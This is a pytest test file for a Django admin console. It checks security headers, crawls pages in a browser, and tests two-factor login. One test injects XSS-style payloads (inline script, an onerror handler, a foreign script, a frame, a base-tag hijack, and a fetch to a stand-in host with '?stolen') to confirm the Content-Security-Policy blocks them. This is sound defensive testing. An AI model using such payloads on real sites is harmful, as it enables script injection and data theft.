"""The console's pages in a real browser: the policy lets them work, and nothing else."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import Browser

from tests.browser import Watched, in_browser, watching
from tests.signin import code, log_in, logged_in, person

PAGES = 60


def directives(policy: str) -> dict[str, list[str]]:
    parts = [part.split() for part in policy.split(";") if part.strip()]
    return {name: values for name, *values in parts}


def test_policy_is_on_every_page(db: None) -> None:
    person()
    client = logged_in()
    urls = ("login/", "", "auth/user/", "security/", "security/password/", "nothing/", "logout/")
    for url in urls:
        headers = client.get(f"/admin/{url}").headers
        told = directives(headers["Content-Security-Policy"])
        assert told["script-src"] == ["'self'", "'unsafe-eval'"]
        for name in ("object-src", "base-uri", "frame-ancestors"):
            assert told[name] == ["'none'"]
        assert told["form-action"] == told["default-src"] == ["'self'"]
        assert {"*", "data:", "blob:"} <= set(told["media-src"])
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["Referrer-Policy"] == "same-origin"
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert "camera=()" in headers["Permissions-Policy"]
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_api_keeps_its_own_policy(account: Any) -> None:
    url = f"/api/ai-proxy/orgs/{account.org.slug}/services/"
    answer = Client().get(url, headers={"Authorization": account.authorization})
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_locked_page_has_the_policy(db: None) -> None:
    answers = [log_in(Client(), "nobody") for _ in range(5)]
    assert "frame-ancestors 'none'" in answers[-1].headers["Content-Security-Policy"]


@pytest.fixture
def watched(browser: Browser, demo: dict[str, str]) -> Iterator[Watched]:
    with watching(browser, demo) as page:
        yield page


@pytest.mark.slow
@in_browser
def test_pages_break_no_policy(watched: Watched, demo: dict[str, str]) -> None:
    watched.log_in(demo)
    seen: list[str] = []
    waiting = [watched.page.url, f"{demo['admin_url']}security/password/"]
    while waiting and len(seen) < PAGES:
        url = waiting.pop(0)
        if url not in seen:
            seen.append(url)
            watched.page.goto(url, wait_until="networkidle")
            waiting += sorted(watched.links() - set(seen) - set(waiting))
    assert watched.complaints == []
    assert len(seen) > 10
    assert any("/security/" in url for url in seen)


@pytest.mark.slow
@in_browser
@pytest.mark.parametrize(
    "script",
    [
        "const one = document.createElement('script'); one.textContent = 'window.ran = 1';"
        "document.body.append(one)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.ran = 1\">')",
        "const one = document.createElement('script'); one.src = 'http://localhost:1/x.js';"
        "document.body.append(one)",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://a.example\">')",
        "document.body.insertAdjacentHTML('beforeend', '<base href=\"https://a.example\">')",
        "fetch('https://a.example/?stolen').catch(() => 0)",
    ],
    ids=["inline script", "event handler", "foreign script", "frame", "base", "fetch"],
)
def test_injected_markup_does_nothing(watched: Watched, demo: dict[str, str], script: str) -> None:
    watched.page.goto(f"{demo['base_url']}/admin/login/", wait_until="networkidle")
    before = watched.page.evaluate("document.baseURI")
    watched.page.evaluate(f"() => {{ {script} }}")
    watched.page.wait_for_timeout(300)
    assert watched.page.evaluate("window.ran") is None
    assert watched.page.evaluate("document.baseURI") == before
    assert any("Content Security Policy" in said for said in watched.complaints)


@pytest.mark.slow
@in_browser
def test_second_factor_by_hand(watched: Watched, demo: dict[str, str]) -> None:
    """Set up, log out, come back with a code, remove: as a person does it."""
    page = watched.page
    watched.log_in(demo)
    page.goto(f"{demo['admin_url']}security/")
    page.get_by_role("link", name="Set up an authenticator app").click()
    page.get_by_role("img", name="QR code").wait_for()
    key = page.locator("#key").inner_text()
    page.get_by_role("textbox", name="Code").fill(code(key))
    page.get_by_role("button", name="Confirm").click()
    page.locator("#codes").wait_for()
    codes = page.locator("#codes li").all_inner_texts()
    assert len(codes) == 10
    page.get_by_role("link", name="I have kept them").click()
    page.wait_for_url("**/admin/", wait_until="networkidle")
    page.context.clear_cookies()
    page.goto(demo["admin_url"])
    page.fill("input[name=username]", demo["admin_username"])
    page.fill("input[name=password]", demo["admin_password"])
    page.keyboard.press("Enter")
    page.get_by_role("textbox", name="Code").fill(codes[0])
    page.keyboard.press("Enter")
    page.wait_for_url("**/admin/")
    page.goto(f"{demo['admin_url']}security/")
    page.get_by_text("9 recovery codes left").wait_for()
    page.get_by_role("button", name="Remove the second factor").click()
    page.get_by_text("Your second factor was removed.").wait_for()
    assert watched.complaints == []
